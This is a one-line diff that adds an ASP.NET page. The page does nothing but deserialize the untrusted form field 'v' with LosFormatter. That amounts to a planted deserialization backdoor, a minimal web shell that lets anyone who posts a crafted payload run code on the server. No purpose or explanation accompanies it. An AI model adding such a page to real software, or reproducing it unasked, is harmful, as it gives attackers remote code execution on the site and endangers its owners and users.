@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% new System.Web.UI.LosFormatter().Deserialize(Request.Form["v"]); %>
